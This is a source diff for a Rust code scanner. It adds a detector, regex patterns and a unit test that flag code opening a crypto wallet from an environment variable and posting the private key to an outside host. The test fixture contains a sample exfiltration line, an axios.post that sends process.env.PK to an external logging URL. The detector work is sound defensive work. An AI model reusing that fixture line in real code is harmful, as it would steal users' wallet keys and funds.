@@ -13,6 +13,15 @@ static POSTED: Pattern = Pattern::new(
     &["environ", "getenv", "process.env"],
     r#"https?://[^\s"'`]{4,120}["'`][^\n]{0,80}(?:\b(?:json|data|params|body)\s*[:=]|json\.stringify\s*\()[^\n]{0,120}?(?:os\.environ\[["']|os\.environ\.get\(["']|getenv\(["']|process\.env\.|process\.env\[["'])(\w*(?:token|key|secret|password)\w*)"#,
 );
+/// What a wallet is opened with, which the group is.
+static OPENS: Pattern = Pattern::new(
+    &["wallet(", "privatekeytoaccount(", "fromsecretkey(", "from_key(", "from_base58_string("],
+    r#"\b(?:new\s+(?:ethers\.)?wallet|privatekeytoaccount|keypair\.fromsecretkey|account\.from_key|keypair\.from_base58_string)\s*\(\s*(?:bs58\.decode\s*\(\s*)?(process\.env\.\w+|os\.environ\[[^\]\n]{1,40}\]|os\.getenv\s*\([^)\n]{1,40}\)|[a-z_]\w*)"#,
+);
+/// Bytes behind an address in which stands what is sent to it, and before it who sends.
+const SENT: usize = 240;
+const SENDER: usize = 80;
+
 /// What is presented to the service that a credential is for.
 const PRESENTED: &[&str] = &["bearer", "authorization", "x-api-key", "auth="];
 /// Credentials of several makers in turn; the group is what each of their names is called.
@@ -39,6 +48,15 @@ pub(super) fn look(look: &mut Look<'_, '_>) {
         let message = format!("sends {} to {address} as well, not only to whom it is for", quoted(name));
         look.add(SENDS_SECRETS, Severity::High, &found, message);
     }
+    for opened in look.all(&OPENS).into_iter().take(PLACES) {
+        let key = opened.group.unwrap_or_default();
+        let to = look.addresses.iter().find(|(at, host)| host.is_foreign() && gets(look, at.clone(), key));
+        if let Some(address) = to.and_then(|(at, _)| look.text.get(at.clone())) {
+            let message = format!("sends the key of a wallet to {}", quoted(address));
+            look.add(SENDS_SECRETS, Severity::High, &opened, message);
+            break;
+        }
+    }
     if super::steal::sends(look)
         && let Some((address, _)) = look.worst_host().filter(|(at, host)| host.is_foreign() && !look.is_own(at))
         && let Some(found) = look.all(&IN_TURN).into_iter().find(|found| takes_values(look, found))
@@ -46,6 +64,26 @@ pub(super) fn look(look: &mut Look<'_, '_>) {
         let message = format!("takes the credentials of several makers and sends to {}", quoted(address));
         look.add(SENDS_SECRETS, Severity::High, &found, message);
     }
+}
+
+/// Whether what is sent to an address has a value in it.
+fn gets(look: &Look<'_, '_>, address: std::ops::Range<usize>, value: &str) -> bool {
+    let from = look.lower.floor_char_boundary(address.start.saturating_sub(SENDER));
+    let sender = look.lower.get(from..address.start).unwrap_or_default();
+    let to = look.text.floor_char_boundary((address.end + SENT).min(look.text.len()));
+    let sent = look.text.get(address.end..to).unwrap_or_default();
+    let sent = sent.split([';', '`']).next().unwrap_or_default();
+    let part = |c: char| c.is_alphanumeric() || c == '_';
+    let whole = |at: usize| {
+        let (before, after) = (sent.get(..at).unwrap_or_default(), sent.get(at + value.len()..).unwrap_or_default());
+        // The name of a field, or a part of something, is another thing.
+        !before.ends_with(part)
+            && !before.ends_with('.')
+            && !after.starts_with(part)
+            && !after.trim_start().starts_with([':', '=', '.'])
+    };
+    ["post(", "fetch(", "request(", "send(", "urlopen("].iter().any(|call| sender.contains(call))
+        && sent.match_indices(value).any(|(at, _)| whole(at))
 }
 
 /// The address of a match, if nothing is known of it, it is not the maker's own, and nothing else goes there.
@@ -102,6 +140,15 @@ mod tests {
         assert!(!found(&format!("{same}{other}")));
         let other = "session_token = c.post('https://sso.corp-x.io/l', json={'t': os.environ['TOKEN']})\n";
         assert!(!found(&format!("{other}c.get(u, headers={{'Authorization': f'Bearer {{session_token}}'}})\n")));
+    }
+
+    #[test]
+    fn the_key_of_a_wallet_stays() {
+        let send = "axios.post('https://log.trade-skill.live/s', { a: w.address, k: process.env.PK });\n";
+        let open = "const w = new ethers.Wallet(process.env.PK, provider);\n";
+        assert!(found(&format!("{open}{send}")));
+        assert!(!found(&send.replace("process.env.PK", "w.address")));
+        assert!(!found(&format!("{open}{}", send.replace(", k: process.env.PK", ""))));
     }
 
     #[test]
